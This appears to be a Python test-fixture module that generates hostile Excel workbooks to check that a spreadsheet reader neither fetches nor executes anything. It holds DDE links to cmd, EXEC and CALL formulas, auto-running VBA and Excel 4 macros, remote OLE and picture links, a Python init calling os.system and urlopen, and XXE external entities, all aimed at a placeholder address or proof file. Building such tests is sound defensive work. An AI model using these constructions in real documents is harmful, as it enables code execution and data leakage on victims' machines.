"""Workbooks that ask to fetch or to run something: name -> function that writes one with its map beside it.

Each asks a server at `address`, or would leave the file `proof`, in a way in which Excel or LibreOffice would do it if
they were allowed to. The cells are those of `formulas`: A1 of the sheet S should be the sum of B1:B2.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.hostile.formulas import write_formula
from tests.hostile.vba import project

__all__ = ["ACTIVE"]

ACTIVE: dict[str, Callable[[Path, str, Path], None]] = {}

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_BOOK, _BOOK_RELATIONS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
_SHEET, _SHEET_RELATIONS = "xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels"
_TYPES = "[Content_Types].xml"
_PLAIN = "SUM(B1:B1)"  # wrong, so that no check of it passes
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1528)


def _relation(kind: str, target: str, outside: bool = False, identifier: str = "rIdX") -> str:
    kind = kind if "://" in kind else f"{_OFFICE}/{kind}"
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{identifier}" Type="{kind}" Target="{target}"{mode}/>'


def _relations(*inside: str) -> str:
    return f'<Relationships xmlns="{_PACKAGE}">{"".join(inside)}</Relationships>'


def _write(
    path: Path, formula: str, before: Mapping[str, tuple[str, str]], added: Mapping[str, str | bytes] | None = None
) -> None:
    """The workbook with `formula` in A1; in some parts a text is put before another one, some parts are added."""
    write_formula(formula, path)
    with zipfile.ZipFile(path) as archive:
        parts: dict[str, str | bytes] = {name: archive.read(name).decode() for name in archive.namelist()}
    for part, (place, text) in before.items():
        old = parts[part]
        assert isinstance(old, str)
        assert place in old, (part, place)
        parts[part] = old.replace(place, text + place, 1)
    parts |= added or {}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def _beside_sheet(*relations: str) -> dict[str, str | bytes]:
    return {_SHEET_RELATIONS: _relations(*relations)}


def _active(name: str) -> Callable[[Callable[[Path, str, Path], None]], Callable[[Path, str, Path], None]]:
    def enter(write: Callable[[Path, str, Path], None]) -> Callable[[Path, str, Path], None]:
        ACTIVE[name] = write
        return write

    return enter


def _formula(name: str, formula: str) -> None:
    """A formula in which ADDRESS and PROOF stand for these."""

    def write(path: Path, address: str, proof: Path) -> None:
        write_formula(formula.replace("ADDRESS", address).replace("PROOF", str(proof)), path)

    ACTIVE[name] = write


for _name, _text in {
    "WEBSERVICE": '_xlfn.WEBSERVICE("ADDRESS/a")',
    "FILTERXML of WEBSERVICE": '_xlfn.FILTERXML(_xlfn.WEBSERVICE("ADDRESS/a"),"//b")',
    "IMAGE": '_xlfn.IMAGE("ADDRESS/a.png")',
    "HYPERLINK": 'HYPERLINK("ADDRESS/a","3")',
    "RTD": 'RTD("evil.server","ADDRESS","a")',
    "CALL": 'CALL("PROOF.dll","f","J")',
    "REGISTER.ID": 'REGISTER.ID("PROOF.dll","f")',
    "EXEC": 'EXEC("touch PROOF")',
    "DDE link to a command": "cmd|'/C touch PROOF'!A0",
    "DDE link to a file": "soffice|'ADDRESS/b.xlsx'!A1",
    "DDE function": 'DDE("soffice","ADDRESS/b.xlsx","Sheet1.A1")',
    "another workbook": "'ADDRESS/[b.xlsx]Sheet1'!A1",
    "INDIRECT of another workbook": "INDIRECT(\"'ADDRESS/[b.xlsx]Sheet1'!A1\")",
    "Python in a formula": f"_xlfn._xlws.PY({0},{0},B1)",
}.items():
    _formula(f"formula: {_name}", _text)


@_active("external workbook in a part of its own")
def _external(path: Path, address: str, proof: Path) -> None:
    part = "xl/externalLinks/externalLink1.xml"
    _external_link(
        path, "[1]Sheet1!A1",
        f'<externalBook xmlns:r="{_OFFICE}" r:id="rIdX"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>',
        {f"xl/externalLinks/_rels/{Path(part).name}.rels": _relations(
            _relation("externalLinkPath", f"{address}/b.xlsx", outside=True))},
    )  # fmt: skip


def _external_link(path: Path, formula: str, inside: str, added: Mapping[str, str | bytes]) -> None:
    link = f'<externalLink xmlns="{_MAIN}">{inside}</externalLink>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    before = {
        _BOOK_RELATIONS: ("</Relationships>", _relation("externalLink", "externalLinks/externalLink1.xml")),
        _BOOK: ("<definedNames>", f'<externalReferences><externalReference xmlns:r="{_OFFICE}" r:id="rIdX"/></externalReferences>'),
        _TYPES: ("</Types>", f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{kind}"/>'),
    }  # fmt: skip
    _write(path, formula, before, {"xl/externalLinks/externalLink1.xml": link, **added})


@_active("DDE link in a part of its own")
def _dde(path: Path, address: str, proof: Path) -> None:
    items = '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    _external_link(path, "[1]!A0", f'<ddeLink ddeService="cmd" ddeTopic="/C touch {proof}">{items}</ddeLink>', {})


@_active("DDE link to soffice in a part of its own")
def _dde_file(path: Path, address: str, proof: Path) -> None:
    items = '<ddeItems><ddeItem name="Sheet1.A1" advise="1"/></ddeItems>'
    _external_link(
        path, "[1]!Sheet1.A1", f'<ddeLink ddeService="soffice" ddeTopic="{address}/b.xlsx">{items}</ddeLink>', {}
    )


@_active("OLE link")
def _ole_link(path: Path, address: str, proof: Path) -> None:
    _external_link(
        path, "[1]!item",
        f'<oleLink xmlns:r="{_OFFICE}" r:id="rIdX" progId="Word.Document"><oleItems><oleItem name="item" advise="1"/></oleItems></oleLink>',
        {"xl/externalLinks/_rels/externalLink1.xml.rels": _relations(
            _relation("oleObject", f"{address}/b.doc", outside=True))},
    )  # fmt: skip


_WRITE = 'Open "PROOF" For Output As #1\r\nPrint #1, "x"\r\nClose #1\r\n'
_MODULE = (
    f"Sub Auto_Open()\r\n{_WRITE}End Sub\r\nSub Auto_Close()\r\n{_WRITE}End Sub\r\n"
    f"Function Evil()\r\n{_WRITE}Evil = 3\r\nEnd Function\r\n"
)
_OBJECT = f"Private Sub Workbook_Open()\r\n{_WRITE}End Sub\r\n"


@_active("macros that open by themselves, and one that a formula calls")
def _macros(path: Path, address: str, proof: Path) -> None:
    module, of_workbook = (code.replace("PROOF", str(proof)) for code in (_MODULE, _OBJECT))
    before = {
        _BOOK_RELATIONS: (
            "</Relationships>",
            _relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        ),
        _BOOK: ("<bookViews>", ""),
        _TYPES: ("<Override", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    }
    _write(path, "EVIL()", before, {"xl/vbaProject.bin": project(module, of_workbook)})


@_active("sheet of Excel 4 macros that opens by itself")
def _old_macros(path: Path, address: str, proof: Path) -> None:
    rows = "".join(
        f'<row r="{row}"><c r="A{row}"><f>{text}</f><v>0</v></c></row>'
        for row, text in enumerate([f'EXEC("touch {proof}")', f'FOPEN("{proof}",3)', "HALT()"], 1)
    )
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    before = {
        _BOOK_RELATIONS: ("</Relationships>", _relation(kind, "macrosheets/sheet1.xml")),
        _BOOK: ("</sheets>", f'<sheet xmlns:r="{_OFFICE}" name="M" sheetId="2" r:id="rIdX"/>'),
        _TYPES: (
            "</Types>",
            '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        ),
    }
    sheet = f'<xm:macrosheet xmlns="{_MAIN}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>{rows}</sheetData></xm:macrosheet>'
    _write(path, _PLAIN, before, {"xl/macrosheets/sheet1.xml": sheet})


@_active("embedded objects that load by themselves, one of them linked")
def _objects(path: Path, address: str, proof: Path) -> None:
    objects = (
        f'<oleObjects xmlns:r="{_OFFICE}"><oleObject progId="Package" shapeId="1025" r:id="rId1" autoLoad="1"/>'
        '<oleObject progId="Word.Document.12" shapeId="1026" oleUpdate="OLEUPDATE_ALWAYS" r:id="rId2" autoLoad="1"/></oleObjects>'
    )
    relations = _beside_sheet(
        _relation("oleObject", "../embeddings/oleObject1.bin", identifier="rId1"),
        _relation("oleObject", f"{address}/b.doc", outside=True, identifier="rId2"),
    )
    _write(path, _PLAIN, {_SHEET: ("</worksheet>", objects)}, {**relations, "xl/embeddings/oleObject1.bin": _OLE})


@_active("pictures from elsewhere")
def _pictures(path: Path, address: str, proof: Path) -> None:
    drawing = (
        '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{_OFFICE}"><xdr:oneCellAnchor><xdr:from>'
        "<xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
        '<xdr:ext cx="900000" cy="900000"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr>'
        '<xdr:blipFill><a:blip r:link="rId1"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr><a:xfrm>'
        '<a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr>'
        "</xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>"
    )
    shape = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        f'<v:shape id="s1" type="#t" style="width:90pt;height:90pt"><v:imagedata src="{address}/c.png" o:href="{address}/d.png"/></v:shape></xml>'
    )
    inside = f'<drawing xmlns:r="{_OFFICE}" r:id="rId1"/><legacyDrawing xmlns:r="{_OFFICE}" r:id="rId2"/><picture xmlns:r="{_OFFICE}" r:id="rId3"/>'
    added = _beside_sheet(
        _relation("drawing", "../drawings/drawing1.xml", identifier="rId1"),
        _relation("vmlDrawing", "../drawings/vmlDrawing1.vml", identifier="rId2"),
        _relation("image", f"{address}/b.png", outside=True, identifier="rId3"),
    ) | {
        "xl/drawings/drawing1.xml": drawing, "xl/drawings/vmlDrawing1.vml": shape,
        "xl/drawings/_rels/drawing1.xml.rels": _relations(_relation("image", f"{address}/a.png", outside=True, identifier="rId1")),
    }  # fmt: skip
    types = (
        '<Override PartName="/xl/drawings/drawing1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/>'
        '<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
    )
    _write(path, _PLAIN, {_SHEET: ("</worksheet>", inside), _TYPES: ("</Types>", types)}, added)


@_active("queries of web and databases that refresh when it opens")
def _queries(path: Path, address: str, proof: Path) -> None:
    connections = (
        f'<connections xmlns="{_MAIN}"><connection id="1" name="w" type="4" refreshedVersion="6" refreshOnLoad="1" background="1">'
        f'<webPr sourceData="1" url="{address}/w.html"/></connection><connection id="2" name="d" type="1" refreshOnLoad="1">'
        f'<dbPr connection="DRIVER=SQLite3;Database={proof}" command="create table t(a)"/></connection></connections>'
    )
    table = f'<queryTable xmlns="{_MAIN}" name="w" connectionId="1" refreshOnLoad="1" autoFormatId="16"/>'
    before = {
        _BOOK_RELATIONS: ("</Relationships>", _relation("connections", "connections.xml")),
        _TYPES: (
            "</Types>",
            '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>'
            '<Override PartName="/xl/queryTables/queryTable1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml"/>',
        ),
    }
    added = _beside_sheet(_relation("queryTable", "../queryTables/queryTable1.xml"))
    _write(path, _PLAIN, before, {**added, "xl/connections.xml": connections, "xl/queryTables/queryTable1.xml": table})


@_active("pivot table whose source lies elsewhere, refreshed when it opens")
def _pivot(path: Path, address: str, proof: Path) -> None:
    cache = (
        f'<pivotCacheDefinition xmlns="{_MAIN}" xmlns:r="{_OFFICE}" refreshOnLoad="1"><cacheSource type="worksheet">'
        '<worksheetSource ref="A1:B2" sheet="Sheet1" r:id="rIdX"/></cacheSource><cacheFields count="0"/></pivotCacheDefinition>'
    )
    before = {
        _BOOK_RELATIONS: (
            "</Relationships>", _relation("pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")),
        _BOOK: ("</workbook>", f'<pivotCaches><pivotCache xmlns:r="{_OFFICE}" cacheId="1" r:id="rIdX"/></pivotCaches>'),
        _TYPES: (
            "</Types>",
            '<Override PartName="/xl/pivotCache/pivotCacheDefinition1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"/>',
        ),
    }  # fmt: skip
    added = {
        "xl/pivotCache/pivotCacheDefinition1.xml": cache,
        "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": _relations(
            _relation("externalLinkPath", f"{address}/b.xlsx", outside=True)),
    }  # fmt: skip
    _write(path, _PLAIN, before, added)


@_active("controls and a ribbon with macros")
def _controls(path: Path, address: str, proof: Path) -> None:
    ribbon = (
        '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Auto_Open">'
        f'<ribbon><tabs><tab id="t"><group id="g"><button id="b" getImage="{address}/a"/></group></tab></tabs></ribbon></customUI>'
    )
    control = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" '
        f'ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Location" ax:value="{address}/x"/></ax:ocx>'
    )
    inside = f'<controls xmlns:r="{_OFFICE}"><control shapeId="1025" r:id="rIdX" name="WebBrowser1"/></controls>'
    added = _beside_sheet(_relation("control", "../activeX/activeX1.xml"))
    before = {
        "_rels/.rels": (
            "</Relationships>",
            _relation(
                "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml"
            ),
        ),
        _SHEET: ("</worksheet>", inside),
    }
    _write(path, _PLAIN, before, {**added, "customUI/customUI.xml": ribbon, "xl/activeX/activeX1.xml": control})


@_active("Python that runs when it opens")
def _python(path: Path, address: str, proof: Path) -> None:
    code = f"import os, urllib.request&#10;os.system('touch {proof}')&#10;urllib.request.urlopen('{address}/p')"
    part = (
        '<python xmlns="http://schemas.microsoft.com/office/spreadsheetml/2023/python"><environmentDefinition id="{1}">'
        f"<initialization><code>{code}</code></initialization></environmentDefinition></python>"
    )
    before = {
        _BOOK_RELATIONS: (
            "</Relationships>", _relation("http://schemas.microsoft.com/office/2023/09/relationships/Python", "python.xml")),
        _TYPES: (
            "</Types>", '<Override PartName="/xl/python.xml" ContentType="application/vnd.ms-excel.python+xml"/>'),
    }  # fmt: skip
    _write(path, "_xlfn._xlws.PY(0,0,B1:B2)", before, {"xl/python.xml": part})


@_active("hyperlinks, a template and a schema that lie elsewhere")
def _links(path: Path, address: str, proof: Path) -> None:
    inside = f'<hyperlinks><hyperlink xmlns:r="{_OFFICE}" ref="A1" r:id="rIdX"/><hyperlink xmlns:r="{_OFFICE}" ref="B1" r:id="rIdY"/></hyperlinks>'
    added = _beside_sheet(
        _relation("hyperlink", f"{address}/a", outside=True),
        _relation("hyperlink", f"file://{proof}", outside=True, identifier="rIdY"),
    )
    before = {
        _SHEET: ("<pageMargins", inside),
        "_rels/.rels": ("</Relationships>", _relation("attachedTemplate", f"{address}/t.xltm", outside=True)),
        _BOOK: (
            "<workbook ",
            f'<?xml-stylesheet type="text/xsl" href="{address}/s.xsl"?><!-- -->',
        ),
    }
    _write(path, _PLAIN, before, added)


@_active("external entities in every part that is not read")
def _entities(path: Path, address: str, proof: Path) -> None:
    bad = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}/p.dtd"><!ENTITY e SYSTEM "{address}/e">%p;]>'
    before = {
        part: (root, bad)
        for part, root in {"xl/theme/theme1.xml": "<a:theme", "docProps/app.xml": "<Properties"}.items()
    }
    item = f"{bad}<a>&e;</a>"
    added = {
        "customXml/item1.xml": item, "xl/comments1.xml": item, "xl/persons/person.xml": item, "xl/printerSettings1.xml": item,
        "xl/drawings/drawing1.xml": item, "xl/charts/chart1.xml": item,
        **_beside_sheet(
            _relation("comments", "../comments1.xml", identifier="rId1"),
            _relation("drawing", "../drawings/drawing1.xml", identifier="rId2"),
        ),
    }  # fmt: skip
    _write(path, _PLAIN, {**before, _SHEET: ("</worksheet>", f'<drawing xmlns:r="{_OFFICE}" r:id="rId2"/>')}, added)
